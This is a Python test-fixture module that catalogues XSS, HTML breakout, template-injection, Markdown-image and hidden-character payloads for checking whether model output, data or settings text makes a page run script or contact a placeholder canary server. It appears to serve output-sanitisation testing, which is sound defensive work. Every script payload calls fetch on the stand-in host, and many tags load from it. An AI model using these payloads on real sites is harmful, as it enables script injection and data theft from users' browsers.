"""Texts as a model, a data set or a settings file could hold them to make a page run or ask for something.

`CANARY` stands for an address that sees every request; `RUN` for a script that leaves a mark and asks for it.
"""

from collections.abc import Iterator

RUN = "document.documentElement.dataset.ran=1,fetch('CANARY/script')"
# Each does something by itself where it is not escaped.
ACTIVE = {
    "script": f"<script>{RUN}</script>",
    "script elsewhere": "<script src=CANARY/x.js></script>",
    "module": f"<script type=module>{RUN}</script>",
    "upper case": f"<ScRiPt>{RUN}</sCrIpT >",
    "image": "<img src=CANARY/i.png>",
    "image set": "<img srcset='CANARY/i.png 1x'>",
    "image that fails": f'<img src="data:," onerror="{RUN}">',
    "slash for a blank": f'<img/src="data:,"/onerror="{RUN}">',
    "SVG with a handler": f'<svg onload="{RUN}"></svg>',
    "SVG image": "<svg><image href='CANARY/i.svg' width=9 height=9></svg>",
    "SVG script": f"<svg><script>{RUN}</script></svg>",
    "body with a handler": f'<body onload="{RUN}">',
    "unfolding": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "frame with a document": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{RUN.split(",", maxsplit=1)[0]}"></iframe>',
    "frame elsewhere": "<iframe src=CANARY/frame></iframe>",
    "object": "<object data=CANARY/object></object>",
    "embedded": "<embed src=CANARY/embed>",
    "video": "<video autoplay src=CANARY/v.mp4 poster=CANARY/p.png></video>",
    "style sheet": "<link rel=stylesheet href=CANARY/s.css>",
    "prefetch": "<link rel=prefetch href=CANARY/p>",
    "preload": "<link rel=preload as=image href=CANARY/p.png>",
    "icon": "<link rel=icon href=CANARY/favicon.ico><img src=CANARY/i.png>",
    "imported style": "<style>@import 'CANARY/s.css';</style>",
    "styled with an image": "<style>body{background:url(CANARY/b.png)}</style>",
    "style attribute": '<p style="background:url(CANARY/b.png)">x</p>',
    "font": "<style>@font-face{font-family:f;src:url(CANARY/f)}body{font-family:f}</style>x",
    "refresh": "<meta http-equiv=refresh content='1;url=CANARY/r'>",
    "other base": "<base href=CANARY/><img src=relative.png>",
    "out of a style": f"</style><script>{RUN}</script>",
    "out of a script": f"</script><script>{RUN}</script>",
    "out of a title": f"</title></textarea></noscript><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script><!--",
    "out of a section": f"]]><script>{RUN}</script>",
    "out of a table": "</code></pre></td></table></svg><img src=CANARY/i.png>",
    "out of an attribute": f'"><script>{RUN}</script>',
    "two readings": f'<noscript><p title="</noscript><img src=data:, onerror={RUN}>">',
    "a comment that is none": f"<!--><script>{RUN}</script>-->",
}
# These need a place that they break out of, a click, or a frame that is drawn in time.
IDLE = {
    "focus": f'<input autofocus onfocus="{RUN}">',
    "SVG animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "CSS animation": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{RUN}">x',
    "handler for an attribute": f'" autofocus tabindex=0 onfocus="{RUN}" x=\'',
    "handler without quotes": f"x onmouseover={RUN} ",
    "link with a script": f'<a href="javascript:{RUN}">x</a>',
    "link with a document": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "form": "<form action=CANARY/form><button>x</button></form>",
    "escaped already": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;",
    "full width": f"＜script＞{RUN}＜/script＞",  # noqa: RUF001 - that is the trick
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "templates": "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{ self.__init__ }} [[7*7]] @(7*7)",
    "backticks": "``` ` `` <b>bold</b> ```",
    "Markdown image": "![x](CANARY/md.png) ![x][y]\n\n[y]: CANARY/md2.png",
    "out of a code span": "` ![x](CANARY/md3.png) ` <img src=CANARY/i.png> `` ![x](CANARY/md4.png) ``",
    "Markdown link": f"[x](javascript:{RUN}) <CANARY/auto> CANARY/bare",
    "Markdown table": "| a | b |\n|--|--|\n| ![x](CANARY/t.png) | ~~~\n# heading\n> quote",
    "JSON in a page": '</script><!-- {"a": "\\u003cscript\\u003e"}',
    "formula": "$x_<b>$ \\(\\href{CANARY/tex}{x}\\)",
}
# What cannot be seen is replaced by what can.
UNSEEN = {
    "NUL in a tag": f"<scr\0ipt>{RUN}</scr\0ipt><img src=CANARY/\0i.png>",
    "escape codes": "\x1b[31m\x1b]8;;CANARY/osc\x07link\x1b]8;;\x07",
    "turned text": "\u202etxet denrut\u202c \u2066isolated\u2069",
    "line separators": "a\u2028b\u2029c\x85d",
}


def texts(canary: str) -> dict[str, str]:
    """All of them, with the address of a server in it."""
    return {name: text.replace("CANARY", canary) for name, text in _all()}


def _all() -> Iterator[tuple[str, str]]:
    for group in (ACTIVE, IDLE, UNSEEN):
        yield from group.items()
